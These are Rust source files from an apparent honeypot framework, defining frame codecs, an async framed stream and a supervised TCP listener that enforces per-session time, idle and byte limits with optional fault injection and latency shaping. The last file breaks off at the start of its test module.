    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<Self::In>>;

    /// Append the encoding of `frame` to `buf`.
    fn encode(&mut self, frame: &Self::Out, buf: &mut BytesMut) -> NetResult<()>;

    /// Upper bound on a single frame, enforced by [`crate::framed::Framed`].
    fn max_frame_len(&self) -> usize {
        1 << 20
    }
}

/// Read an exact big-endian `u32` length prefix if available, without
/// consuming it. Helper shared by several codecs.
pub fn peek_u32_be(buf: &BytesMut) -> Option<u32> {
    buf.first_chunk::<4>().map(|b| u32::from_be_bytes(*b))
}

/// Read an exact little-endian `u32` length prefix if available, without
/// consuming it.
pub fn peek_u32_le(buf: &BytesMut) -> Option<u32> {
    buf.first_chunk::<4>().map(|b| u32::from_le_bytes(*b))
}

/// A trivial line-based codec (`\n`-terminated, CR stripped). Used by tests
/// and by the inline-command mode of the Redis honeypot.
#[derive(Debug, Default, Clone)]
pub struct LineCodec {
    max_len: usize,
}

impl LineCodec {
    /// A line codec with a custom maximum line length.
    pub fn with_max_len(max_len: usize) -> Self {
        LineCodec { max_len }
    }
}

impl Codec for LineCodec {
    type In = String;
    type Out = String;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<String>> {
        let Some(pos) = buf.iter().position(|&b| b == b'\n') else {
            return Ok(None);
        };
        let mut line = buf.split_to(pos + 1);
        line.truncate(pos); // drop '\n'
        if line.last() == Some(&b'\r') {
            line.truncate(line.len().saturating_sub(1));
        }
        match std::str::from_utf8(&line) {
            Ok(s) => Ok(Some(s.to_owned())),
            Err(_) => Err(NetError::protocol("line is not valid utf-8")),
        }
    }

    fn encode(&mut self, frame: &String, buf: &mut BytesMut) -> NetResult<()> {
        buf.extend_from_slice(frame.as_bytes());
        buf.extend_from_slice(b"\r\n");
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        if self.max_len == 0 {
            64 * 1024
        } else {
            self.max_len
        }
    }
}

/// A codec for fixed-size chunks of raw bytes; `decode` yields whatever is
/// available. Used by honeypots that log opaque payloads (e.g. unknown
/// protocols thrown at a database port).
#[derive(Debug, Default, Clone)]
pub struct RawCodec;

impl Codec for RawCodec {
    type In = Bytes;
    type Out = Bytes;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<Bytes>> {
        if buf.is_empty() {
            return Ok(None);
        }
        // Zero-copy: detach the readable bytes and hand out a shared view.
        Ok(Some(buf.split_to(buf.len()).freeze()))
    }

    fn encode(&mut self, frame: &Bytes, buf: &mut BytesMut) -> NetResult<()> {
        buf.extend_from_slice(frame);
        Ok(())
    }
}

/// Drain as many complete frames as `codec` can decode from `bytes` into
/// `frames`, returning how many were appended.
///
/// Test/analysis helper: replays a captured byte stream through a codec
/// without any I/O. The output vector is caller-provided so replay loops
/// (and the load harness) can reuse one allocation across streams.
pub fn decode_all_into<C: Codec>(
    codec: &mut C,
    bytes: &[u8],
    frames: &mut Vec<C::In>,
) -> NetResult<usize> {
    let mut buf = BytesMut::from(bytes);
    let before = frames.len();
    while let Some(f) = codec.decode(&mut buf)? {
        frames.push(f);
        if buf.is_empty() {
            break;
        }
    }
    Ok(frames.len().saturating_sub(before))
}

/// Append the encoding of a sequence of frames to `buf`. The buffer is
/// caller-provided (typically checked out of [`crate::pool::BufferPool`])
/// so batch encoding never allocates per call.
pub fn encode_all_into<C: Codec>(
    codec: &mut C,
    frames: &[C::Out],
    buf: &mut BytesMut,
) -> NetResult<()> {
    for f in frames {
        codec.encode(f, buf)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn line_codec_roundtrip_and_partials() {
        let mut c = LineCodec::default();
        let mut buf = BytesMut::from(&b"hello\r\nwor"[..]);
        assert_eq!(c.decode(&mut buf).unwrap(), Some("hello".to_string()));
        assert_eq!(c.decode(&mut buf).unwrap(), None);
        buf.extend_from_slice(b"ld\n");
        assert_eq!(c.decode(&mut buf).unwrap(), Some("world".to_string()));
        assert!(buf.is_empty());
    }

    #[test]
    fn line_codec_rejects_invalid_utf8() {
        let mut c = LineCodec::default();
        let mut buf = BytesMut::from(&b"\xff\xfe\n"[..]);
        assert!(c.decode(&mut buf).is_err());
    }

    #[test]
    fn decode_encode_all_helpers() {
        let mut c = LineCodec::default();
        let mut bytes = BytesMut::new();
        encode_all_into(&mut c, &["a".to_string(), "b".to_string()], &mut bytes).unwrap();
        assert_eq!(&bytes[..], b"a\r\nb\r\n");
        let mut frames = Vec::new();
        let n = decode_all_into(&mut c, &bytes, &mut frames).unwrap();
        assert_eq!(n, 2);
        assert_eq!(frames, vec!["a".to_string(), "b".to_string()]);
    }

    #[test]
    fn raw_codec_is_zero_copy() {
        let mut c = RawCodec;
        let mut buf = BytesMut::from(&b"opaque scanner probe"[..]);
        let frame = c.decode(&mut buf).unwrap().unwrap();
        assert_eq!(&frame[..], b"opaque scanner probe");
        assert!(buf.is_empty());
        assert_eq!(c.decode(&mut buf).unwrap(), None);
        let mut out = BytesMut::new();
        c.encode(&frame, &mut out).unwrap();
        assert_eq!(&out[..], &frame[..]);
    }

    #[test]
    fn peek_helpers() {
        let buf = BytesMut::from(&[0u8, 0, 1, 2][..]);
        assert_eq!(peek_u32_be(&buf), Some(0x0000_0102));
        assert_eq!(peek_u32_le(&buf), Some(0x0201_0000));
        assert_eq!(peek_u32_be(&BytesMut::from(&[1u8, 2][..])), None);
    }
}
