//! Incremental frame codecs and the async framed stream.
//!
//! Every wire protocol in `decoy-wire` implements [`Codec`]: decoding consumes
//! bytes from a [`BytesMut`] and either produces a complete frame, asks for
//! more bytes (`Ok(None)`), or reports a protocol violation. This is the
//! framing discipline from the Tokio tutorial, kept separate from I/O so
//! codecs are unit-testable without sockets.

use crate::error::{NetError, NetResult};
use bytes::BytesMut;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// An incremental encoder/decoder for one protocol's frames.
pub trait Codec {
    /// The inbound frame type this side decodes.
    type In;
    /// The outbound frame type this side encodes. Symmetric protocols use
    /// `In == Out`; asymmetric ones (PostgreSQL, HTTP) differ per side.
    type Out;

    /// Try to decode one frame from the front of `buf`.
    ///
    /// * `Ok(Some(frame))` — a frame was decoded and its bytes consumed.
    /// * `Ok(None)` — `buf` holds an incomplete frame; read more bytes.
    /// * `Err(_)` — the bytes can never form a valid frame.
    ///
    /// Implementations must not consume bytes when returning `Ok(None)`.
    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<Self::In>>;

    /// Append the encoding of `frame` to `buf`.
    fn encode(&mut self, frame: &Self::Out, buf: &mut BytesMut) -> NetResult<()>;

    /// Upper bound on a single frame, enforced by [`Framed`].
    fn max_frame_len(&self) -> usize {
        1 << 20
    }
}

/// Read an exact big-endian `u32` length prefix if available, without
/// consuming it. Helper shared by several codecs.
pub fn peek_u32_be(buf: &BytesMut) -> Option<u32> {
    if buf.len() < 4 {
        return None;
    }
    Some(u32::from_be_bytes([buf[0], buf[1], buf[2], buf[3]]))
}

/// Read an exact little-endian `u32` length prefix if available, without
/// consuming it.
pub fn peek_u32_le(buf: &BytesMut) -> Option<u32> {
    if buf.len() < 4 {
        return None;
    }
    Some(u32::from_le_bytes([buf[0], buf[1], buf[2], buf[3]]))
}

/// A frame-oriented wrapper around a byte stream.
///
/// Owns the read buffer; `read_frame` loops `decode` / `read_buf` until a
/// frame is complete, the peer disconnects, or the frame limit is exceeded.
pub struct Framed<S, C> {
    stream: S,
    codec: C,
    read_buf: BytesMut,
    write_buf: BytesMut,
}

impl<S, C> Framed<S, C>
where
    S: AsyncRead + AsyncWrite + Unpin,
    C: Codec,
{
    /// Wrap `stream` with `codec`.
    pub fn new(stream: S, codec: C) -> Self {
        Self::with_initial(stream, codec, BytesMut::with_capacity(4096))
    }

    /// Wrap `stream` with `codec`, seeding the read buffer with bytes that
    /// were already consumed from the stream (e.g. while peeking for a
    /// PROXY protocol header).
    pub fn with_initial(stream: S, codec: C, initial: BytesMut) -> Self {
        Framed {
            stream,
            codec,
            read_buf: initial,
            write_buf: BytesMut::with_capacity(4096),
        }
    }

    /// Access the codec (some protocols carry handshake state in it).
    pub fn codec_mut(&mut self) -> &mut C {
        &mut self.codec
    }

    /// Bytes currently buffered but not yet decoded.
    pub fn buffered(&self) -> &[u8] {
        &self.read_buf
    }

    /// Read one frame, or `None` on clean EOF at a frame boundary.
    pub async fn read_frame(&mut self) -> NetResult<Option<C::In>> {
        loop {
            if let Some(frame) = self.codec.decode(&mut self.read_buf)? {
                return Ok(Some(frame));
            }
            if self.read_buf.len() > self.codec.max_frame_len() {
                return Err(NetError::FrameTooLarge {
                    limit: self.codec.max_frame_len(),
                    got: self.read_buf.len(),
                });
            }
            let n = self.stream.read_buf(&mut self.read_buf).await?;
            if n == 0 {
                return if self.read_buf.is_empty() {
                    Ok(None)
                } else {
                    Err(NetError::UnexpectedEof)
                };
            }
        }
    }

    /// Encode and flush one frame.
    pub async fn write_frame(&mut self, frame: &C::Out) -> NetResult<()> {
        self.write_buf.clear();
        self.codec.encode(frame, &mut self.write_buf)?;
        self.stream.write_all(&self.write_buf).await?;
        self.stream.flush().await?;
        Ok(())
    }

    /// Write raw bytes (used for canned banners that bypass the codec).
    pub async fn write_raw(&mut self, bytes: &[u8]) -> NetResult<()> {
        self.stream.write_all(bytes).await?;
        self.stream.flush().await?;
        Ok(())
    }

    /// Consume the wrapper, returning the underlying stream and any
    /// unconsumed buffered bytes.
    pub fn into_parts(self) -> (S, BytesMut) {
        (self.stream, self.read_buf)
    }
}

/// A trivial line-based codec (`\n`-terminated, CR stripped). Used by tests
/// and by the inline-command mode of the Redis honeypot.
#[derive(Debug, Default, Clone)]
pub struct LineCodec {
    max_len: usize,
}

impl LineCodec {
    /// A line codec with a custom maximum line length.
    pub fn with_max_len(max_len: usize) -> Self {
        LineCodec { max_len }
    }
}

impl Codec for LineCodec {
    type In = String;
    type Out = String;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<String>> {
        let Some(pos) = buf.iter().position(|&b| b == b'\n') else {
            return Ok(None);
        };
        let mut line = buf.split_to(pos + 1);
        line.truncate(pos); // drop '\n'
        if line.last() == Some(&b'\r') {
            line.truncate(line.len() - 1);
        }
        match String::from_utf8(line.to_vec()) {
            Ok(s) => Ok(Some(s)),
            Err(_) => Err(NetError::protocol("line is not valid utf-8")),
        }
    }

    fn encode(&mut self, frame: &String, buf: &mut BytesMut) -> NetResult<()> {
        buf.extend_from_slice(frame.as_bytes());
        buf.extend_from_slice(b"\r\n");
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        if self.max_len == 0 {
            64 * 1024
        } else {
            self.max_len
        }
    }
}

/// A codec for fixed-size chunks of raw bytes; `decode` yields whatever is
/// available. Used by honeypots that log opaque payloads (e.g. unknown
/// protocols thrown at a database port).
#[derive(Debug, Default, Clone)]
pub struct RawCodec;

impl Codec for RawCodec {
    type In = Vec<u8>;
    type Out = Vec<u8>;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<Vec<u8>>> {
        if buf.is_empty() {
            return Ok(None);
        }
        let all = buf.split_to(buf.len());
        Ok(Some(all.to_vec()))
    }

    fn encode(&mut self, frame: &Vec<u8>, buf: &mut BytesMut) -> NetResult<()> {
        buf.extend_from_slice(frame);
        Ok(())
    }
}

/// Drain as many complete frames as `codec` can decode from `bytes`.
///
/// Test/analysis helper: replays a captured byte stream through a codec
/// without any I/O.
pub fn decode_all<C: Codec>(codec: &mut C, bytes: &[u8]) -> NetResult<Vec<C::In>> {
    let mut buf = BytesMut::from(bytes);
    let mut frames = Vec::new();
    while let Some(f) = codec.decode(&mut buf)? {
        frames.push(f);
        if buf.is_empty() {
            break;
        }
    }
    Ok(frames)
}

/// Encode a sequence of frames to a contiguous byte vector.
pub fn encode_all<C: Codec>(codec: &mut C, frames: &[C::Out]) -> NetResult<Vec<u8>> {
    let mut buf = BytesMut::new();
    for f in frames {
        codec.encode(f, &mut buf)?;
    }
    Ok(buf.to_vec())
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::duplex;

    #[test]
    fn line_codec_roundtrip_and_partials() {
        let mut c = LineCodec::default();
        let mut buf = BytesMut::from(&b"hello\r\nwor"[..]);
        assert_eq!(c.decode(&mut buf).unwrap(), Some("hello".to_string()));
        assert_eq!(c.decode(&mut buf).unwrap(), None);
        buf.extend_from_slice(b"ld\n");
        assert_eq!(c.decode(&mut buf).unwrap(), Some("world".to_string()));
        assert!(buf.is_empty());
    }

    #[test]
    fn line_codec_rejects_invalid_utf8() {
        let mut c = LineCodec::default();
        let mut buf = BytesMut::from(&b"\xff\xfe\n"[..]);
        assert!(c.decode(&mut buf).is_err());
    }

    #[test]
    fn decode_encode_all_helpers() {
        let mut c = LineCodec::default();
        let bytes = encode_all(&mut c, &["a".to_string(), "b".to_string()]).unwrap();
        assert_eq!(bytes, b"a\r\nb\r\n");
        let frames = decode_all(&mut c, &bytes).unwrap();
        assert_eq!(frames, vec!["a".to_string(), "b".to_string()]);
    }

    #[test]
    fn peek_helpers() {
        let buf = BytesMut::from(&[0u8, 0, 1, 2][..]);
        assert_eq!(peek_u32_be(&buf), Some(0x0000_0102));
        assert_eq!(peek_u32_le(&buf), Some(0x0201_0000));
        assert_eq!(peek_u32_be(&BytesMut::from(&[1u8, 2][..])), None);
    }

    #[tokio::test]
    async fn framed_roundtrip_over_duplex() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, LineCodec::default());
        let mut fb = Framed::new(b, LineCodec::default());
        fa.write_frame(&"ping".to_string()).await.unwrap();
        assert_eq!(fb.read_frame().await.unwrap(), Some("ping".to_string()));
        fb.write_frame(&"pong".to_string()).await.unwrap();
        assert_eq!(fa.read_frame().await.unwrap(), Some("pong".to_string()));
        drop(fb);
        assert_eq!(fa.read_frame().await.unwrap(), None); // clean EOF
    }

    #[tokio::test]
    async fn framed_eof_mid_frame_is_error() {
        let (a, b) = duplex(256);
        let mut fa = Framed::new(a, LineCodec::default());
        let mut fb = Framed::new(b, RawCodec);
        fb.write_frame(&b"incomplete".to_vec()).await.unwrap();
        drop(fb);
        assert!(matches!(
            fa.read_frame().await,
            Err(NetError::UnexpectedEof)
        ));
    }

    #[tokio::test]
    async fn framed_enforces_frame_limit() {
        let (a, b) = duplex(4096);
        let mut fa = Framed::new(a, LineCodec::with_max_len(8));
        let mut fb = Framed::new(b, RawCodec);
        fb.write_frame(&vec![b'x'; 64]).await.unwrap();
        assert!(matches!(
            fa.read_frame().await,
            Err(NetError::FrameTooLarge { .. })
        ));
    }
}
