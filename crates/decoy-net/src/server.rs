//! Supervised TCP listeners.
//!
//! A [`Listener`] binds a socket, accepts connections in a dedicated task,
//! and runs each session through a [`SessionHandler`] in its own task — the
//! spawning + graceful-shutdown pattern from the Tokio guide. Every session
//! flows through a [`SessionStream`], which enforces the fleet-wide session
//! limits (wall-clock deadline, idle timeout, byte budget) once at the
//! server layer so no honeypot family can forget them, and which carries
//! the [`crate::chaos`] fault injection when a [`FaultPlan`] is installed.
//! The returned [`ServerHandle`] shuts the listener down on request and can
//! wait for in-flight sessions to drain.

use crate::chaos::{AcceptFault, ChaosStream, FaultPlan, SessionFaults};
use crate::latency::LatencyShaper;
use crate::limiter::ConnectionGate;
use crate::time::Clock;
use std::future::Future;
use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::{Arc, OnceLock};
use std::task::{Context, Poll};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tokio::time::Sleep;

/// Broadcast flag observed by sessions that should abort early on shutdown.
#[derive(Debug, Clone)]
pub struct ShutdownSignal {
    rx: watch::Receiver<bool>,
}

/// The one sender behind every [`ShutdownSignal::noop`] receiver: noop
/// signals share it instead of leaking one `watch::Sender` per call.
static NOOP_SHUTDOWN: OnceLock<watch::Sender<bool>> = OnceLock::new();

impl ShutdownSignal {
    /// A signal that never fires — for tests and standalone session drivers.
    pub fn noop() -> Self {
        let tx = NOOP_SHUTDOWN.get_or_init(|| watch::channel(false).0);
        ShutdownSignal { rx: tx.subscribe() }
    }

    /// True once shutdown has been requested.
    pub fn is_shutdown(&self) -> bool {
        *self.rx.borrow()
    }

    /// Resolves when shutdown is requested (or immediately if it already was).
    pub async fn wait(&mut self) {
        if *self.rx.borrow() {
            return;
        }
        // An Err means the sender is gone, which also means shutdown.
        let _ = self.rx.wait_for(|v| *v).await;
    }
}

/// Build a signal from an existing receiver (crate-internal: the supervisor
/// shares its shutdown channel with its run loops).
pub(crate) fn shutdown_signal_from(rx: watch::Receiver<bool>) -> ShutdownSignal {
    ShutdownSignal { rx }
}

/// Everything a session handler knows about one accepted connection.
#[derive(Debug, Clone)]
pub struct SessionCtx {
    /// Remote endpoint of the connection.
    pub peer: SocketAddr,
    /// The port the honeypot instance is listening on.
    pub local_port: u16,
    /// Time source for event logging.
    pub clock: Clock,
    /// Cooperative shutdown flag.
    pub shutdown: ShutdownSignal,
    /// Monotone per-listener session counter (1-based).
    pub session_seq: u64,
}

/// Implemented by every honeypot server: drives one accepted connection.
pub trait SessionHandler: Send + Sync + 'static {
    /// Handle a single session to completion. Errors are the handler's to
    /// log; the supervisor only cares that the task ends.
    fn handle(
        self: Arc<Self>,
        stream: SessionStream,
        ctx: SessionCtx,
    ) -> impl Future<Output = ()> + Send;
}

/// Session-level resource limits enforced uniformly by [`SessionStream`].
///
/// These replace the per-family idle macros: every honeypot session gets a
/// wall-clock deadline, an idle timeout, and a read byte budget whether or
/// not the family remembers to ask for them.
#[derive(Debug, Clone)]
pub struct SessionLimits {
    /// Total wall-clock lifetime of a session; reads return EOF and writes
    /// fail once it passes. `None` disables the deadline.
    pub deadline: Option<Duration>,
    /// Reads return EOF after this long without read progress. `None`
    /// disables the idle timeout.
    pub idle: Option<Duration>,
    /// Reads return EOF after this many bytes have been delivered. `None`
    /// disables the budget.
    pub byte_budget: Option<u64>,
}

impl Default for SessionLimits {
    fn default() -> Self {
        SessionLimits {
            deadline: Some(Duration::from_secs(300)),
            idle: Some(Duration::from_secs(30)),
            byte_budget: Some(64 * 1024 * 1024),
        }
    }
}

/// Configuration for a [`Listener`].
#[derive(Debug, Clone)]
pub struct ListenerOptions {
    /// Maximum concurrent sessions; excess connections are dropped at accept.
    pub max_sessions: usize,
    /// Time source propagated to sessions.
    pub clock: Clock,
    /// Per-session limits enforced by the server layer.
    pub limits: SessionLimits,
    /// Fault-injection schedule; `None` (the default) runs clean.
    pub faults: Option<FaultPlan>,
    /// Stable identifier keying this listener's fault decisions (the
    /// deployment uses the instance seed).
    pub fault_key: u64,
    /// Response-latency shaping; `None` (the default) answers immediately.
    /// On a simulated clock the shared clock advances instead of the task
    /// sleeping, so shaped experiments stay deterministic and instant.
    pub latency: Option<LatencyShaper>,
}

impl Default for ListenerOptions {
    fn default() -> Self {
        ListenerOptions {
            max_sessions: 4096,
            clock: Clock::Wall,
            limits: SessionLimits::default(),
            faults: None,
            fault_key: 0,
            latency: None,
        }
    }
}

/// Why the session stream stopped delivering bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionCut {
    /// The wall-clock deadline passed.
    Deadline,
    /// No read progress within the idle window.
    Idle,
    /// The read byte budget was exhausted.
    ByteBudget,
}

enum StreamInner {
    Plain(TcpStream),
    Chaos(ChaosStream<TcpStream>),
}

/// The transport every honeypot session reads and writes.
///
/// Wraps the accepted socket and enforces [`SessionLimits`] in-line:
/// limit hits surface as EOF on the read side (so handlers wind down
/// through their normal end-of-stream path and still log the disconnect)
/// and as `TimedOut` errors on the write side once the deadline has
/// passed. When chaos faults are active the socket is additionally wrapped
/// in a [`ChaosStream`].
pub struct SessionStream {
    inner: StreamInner,
    deadline: Option<Pin<Box<Sleep>>>,
    idle: Option<IdleTimer>,
    budget: Option<u64>,
    cut: Option<SessionCut>,
    shape: Option<ShapeState>,
}

struct IdleTimer {
    window: Duration,
    sleep: Pin<Box<Sleep>>,
}

/// Per-session latency-shaping state: one deterministic delay is armed on
/// the first write after each read (one "op" = one request/response turn).
struct ShapeState {
    shaper: LatencyShaper,
    clock: Clock,
    session: u64,
    op: u64,
    /// Delay cap so a shaped delay can never outlive the session deadline.
    cap: Option<Duration>,
    /// A read completed since the last shaped write: the next write is the
    /// start of a response and gets a delay.
    awaiting: bool,
    pending: Option<Pin<Box<Sleep>>>,
}

impl SessionStream {
    /// Wrap an accepted socket with `limits` and optional chaos `faults`.
    pub fn new(stream: TcpStream, limits: &SessionLimits, faults: Option<SessionFaults>) -> Self {
        let inner = match faults {
            Some(f) if !f.is_noop() => StreamInner::Chaos(ChaosStream::new(stream, f)),
            _ => StreamInner::Plain(stream),
        };
        SessionStream {
            inner,
            deadline: limits
                .deadline
                .map(|d| Box::pin(tokio::time::sleep(d)) as Pin<Box<Sleep>>),
            idle: limits.idle.map(|window| IdleTimer {
                window,
                sleep: Box::pin(tokio::time::sleep(window)),
            }),
            budget: limits.byte_budget,
            cut: None,
            shape: None,
        }
    }

    /// Enable deterministic response-latency shaping on this session.
    ///
    /// Each read→write turn draws one delay from `shaper` keyed by
    /// `(session, op)`. On a simulated clock the shared clock advances by
    /// the delay instead of the task sleeping; on the wall clock the write
    /// is held back for the drawn duration. `cap` (normally the session
    /// deadline) bounds every draw.
    pub fn with_shaping(
        mut self,
        shaper: LatencyShaper,
        clock: Clock,
        session: u64,
        cap: Option<Duration>,
    ) -> Self {
        self.shape = Some(ShapeState {
            shaper,
            clock,
            session,
            op: 0,
            cap,
            awaiting: true,
            pending: None,
        });
        self
    }

    /// A stream with no limits and no faults — for drivers and tests that
    /// need the plain transport semantics.
    pub fn unlimited(stream: TcpStream) -> Self {
        let no_limits = SessionLimits {
            deadline: None,
            idle: None,
            byte_budget: None,
        };
        SessionStream::new(stream, &no_limits, None)
    }

    /// Which limit ended the session, if one did.
    pub fn cut_reason(&self) -> Option<SessionCut> {
        self.cut
    }

    fn deadline_passed(&mut self, cx: &mut Context<'_>) -> bool {
        match self.deadline.as_mut() {
            Some(sleep) => sleep.as_mut().poll(cx).is_ready(),
            None => false,
        }
    }
}

impl AsyncRead for SessionStream {
    fn poll_read(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<io::Result<()>> {
        let this = self.get_mut();
        if this.cut.is_some() {
            return Poll::Ready(Ok(()));
        }
        if this.deadline_passed(cx) {
            this.cut = Some(SessionCut::Deadline);
            return Poll::Ready(Ok(()));
        }
        if let Some(idle) = this.idle.as_mut() {
            if idle.sleep.as_mut().poll(cx).is_ready() {
                this.cut = Some(SessionCut::Idle);
                return Poll::Ready(Ok(()));
            }
        }
        if this.budget == Some(0) {
            this.cut = Some(SessionCut::ByteBudget);
            return Poll::Ready(Ok(()));
        }
        let before = buf.filled().len();
        let res = match &mut this.inner {
            StreamInner::Plain(s) => Pin::new(s).poll_read(cx, buf),
            StreamInner::Chaos(s) => Pin::new(s).poll_read(cx, buf),
        };
        if let Poll::Ready(Ok(())) = res {
            let n = buf.filled().len().saturating_sub(before) as u64;
            if n > 0 {
                if let Some(idle) = this.idle.as_mut() {
                    let next = tokio::time::Instant::now() + idle.window;
                    idle.sleep.as_mut().reset(next);
                }
                if let Some(b) = this.budget.as_mut() {
                    *b = b.saturating_sub(n);
                }
                if let Some(shape) = this.shape.as_mut() {
                    shape.awaiting = true;
                }
            }
        }
        res
    }
}

impl AsyncWrite for SessionStream {
    fn poll_write(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<io::Result<usize>> {
        let this = self.get_mut();
        if this.cut == Some(SessionCut::Deadline) || this.deadline_passed(cx) {
            this.cut = Some(SessionCut::Deadline);
            return Poll::Ready(Err(io::Error::new(
                io::ErrorKind::TimedOut,
                "session deadline exceeded",
            )));
        }
        if let Some(shape) = this.shape.as_mut() {
            if shape.pending.is_none() && shape.awaiting {
                shape.awaiting = false;
                shape.op += 1;
                let delay = shape
                    .shaper
                    .delay_within(shape.session, shape.op, shape.cap);
                match shape.clock.sim() {
                    // Simulated time: the experiment clock advances by the
                    // drawn delay and the write proceeds immediately.
                    Some(sim) => sim.advance_millis(delay.as_millis() as u64),
                    None => shape.pending = Some(Box::pin(tokio::time::sleep(delay))),
                }
            }
            if let Some(sleep) = shape.pending.as_mut() {
                match sleep.as_mut().poll(cx) {
                    Poll::Ready(()) => shape.pending = None,
                    Poll::Pending => return Poll::Pending,
                }
            }
        }
        match &mut this.inner {
            StreamInner::Plain(s) => Pin::new(s).poll_write(cx, buf),
            StreamInner::Chaos(s) => Pin::new(s).poll_write(cx, buf),
        }
    }

    fn poll_flush(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        match &mut self.get_mut().inner {
            StreamInner::Plain(s) => Pin::new(s).poll_flush(cx),
            StreamInner::Chaos(s) => Pin::new(s).poll_flush(cx),
        }
    }

    fn poll_shutdown(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        match &mut self.get_mut().inner {
            StreamInner::Plain(s) => Pin::new(s).poll_shutdown(cx),
            StreamInner::Chaos(s) => Pin::new(s).poll_shutdown(cx),
        }
    }
}

/// Why an accept loop ended — the supervisor restarts on `Crashed` only.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ListenerExit {
    /// Orderly shutdown via the [`ServerHandle`].
    Shutdown,
    /// The accept loop died (in practice: an injected chaos crash).
    Crashed,
}

/// Extra wall-clock slack past the session deadline before the session task
/// itself is aborted, as a backstop for handlers stuck in writes.
const HARD_CAP_GRACE: Duration = Duration::from_secs(5);

/// A running TCP listener bound to one honeypot instance.
pub struct Listener;

impl Listener {
    /// Bind `addr` and serve sessions with `handler` until shutdown.
    pub async fn bind<H: SessionHandler>(
        addr: SocketAddr,
        handler: Arc<H>,
        options: ListenerOptions,
    ) -> io::Result<ServerHandle> {
        let listener = TcpListener::bind(addr).await?;
        let local_addr = listener.local_addr()?;
        let (shutdown_tx, shutdown_rx) = watch::channel(false);
        let gate = ConnectionGate::new(options.max_sessions);
        let accept_gate = gate.clone();

        let accept_task: JoinHandle<ListenerExit> = tokio::spawn(async move {
            let mut session_seq: u64 = 0;
            let mut shutdown = ShutdownSignal {
                rx: shutdown_rx.clone(),
            };
            loop {
                let accepted = tokio::select! {
                    biased;
                    _ = shutdown.wait() => break ListenerExit::Shutdown,
                    r = listener.accept() => r,
                };
                let (stream, peer) = match accepted {
                    Ok(pair) => pair,
                    // Transient accept errors (EMFILE, resets) must not kill
                    // the listener; yield and retry.
                    Err(_) => {
                        tokio::task::yield_now().await;
                        continue;
                    }
                };
                let Some(permit) = accept_gate.try_acquire() else {
                    drop(stream);
                    continue;
                };
                session_seq += 1;
                let mut session_faults = None;
                if let Some(plan) = options.faults.as_ref() {
                    match plan.at_accept(options.fault_key, session_seq) {
                        AcceptFault::Deliver => {
                            session_faults = Some(plan.for_session(options.fault_key, session_seq));
                        }
                        AcceptFault::Refuse => {
                            drop(stream);
                            drop(permit);
                            continue;
                        }
                        AcceptFault::CrashListener => {
                            drop(stream);
                            drop(permit);
                            break ListenerExit::Crashed;
                        }
                    }
                }
                let ctx = SessionCtx {
                    peer,
                    local_port: local_addr.port(),
                    clock: options.clock.clone(),
                    shutdown: ShutdownSignal {
                        rx: shutdown_rx.clone(),
                    },
                    session_seq,
                };
                let mut stream = SessionStream::new(stream, &options.limits, session_faults);
                if let Some(shaper) = options.latency.as_ref() {
                    stream = stream.with_shaping(
                        shaper.clone(),
                        options.clock.clone(),
                        options.fault_key ^ session_seq,
                        options.limits.deadline,
                    );
                }
                let handler = handler.clone();
                let hard_cap = options.limits.deadline.map(|d| d + HARD_CAP_GRACE);
                tokio::spawn(async move {
                    match hard_cap {
                        Some(cap) => {
                            let _ = tokio::time::timeout(cap, handler.handle(stream, ctx)).await;
                        }
                        None => handler.handle(stream, ctx).await,
                    }
                    drop(permit);
                });
            }
        });

        Ok(ServerHandle {
            local_addr,
            shutdown_tx,
            accept_task,
            gate,
        })
    }
}

/// Handle to a running listener; shuts down on [`ServerHandle::shutdown`].
pub struct ServerHandle {
    local_addr: SocketAddr,
    shutdown_tx: watch::Sender<bool>,
    accept_task: JoinHandle<ListenerExit>,
    gate: ConnectionGate,
}

impl ServerHandle {
    /// The address the listener actually bound (useful with port 0).
    pub fn local_addr(&self) -> SocketAddr {
        self.local_addr
    }

    /// Number of sessions currently in flight.
    pub fn active_sessions(&self) -> usize {
        self.gate.active()
    }

    /// Wait for the accept loop to end on its own and report why. A task
    /// that panicked or was aborted counts as crashed. Callers must not
    /// call this again after it resolves; consume the handle instead.
    pub async fn wait_exit(&mut self) -> ListenerExit {
        match (&mut self.accept_task).await {
            Ok(exit) => exit,
            Err(_) => ListenerExit::Crashed,
        }
    }

    /// Request shutdown and wait for the accept loop to exit. In-flight
    /// sessions observe the shared [`ShutdownSignal`]; callers that need a
    /// bounded drain use [`ServerHandle::shutdown_with_deadline`].
    pub async fn shutdown(self) {
        self.shutdown_with_deadline(Duration::ZERO).await;
    }

    /// Request shutdown, wait for the accept loop to exit, then wait up to
    /// `drain` for in-flight sessions to finish. Sessions still running at
    /// the deadline are left to the shared [`ShutdownSignal`].
    pub async fn shutdown_with_deadline(self, drain: Duration) {
        let _ = self.shutdown_tx.send(true);
        let _ = self.accept_task.await;
        if drain.is_zero() {
            return;
        }
        let deadline = tokio::time::Instant::now() + drain;
        while self.gate.active() > 0 && tokio::time::Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::codec::LineCodec;
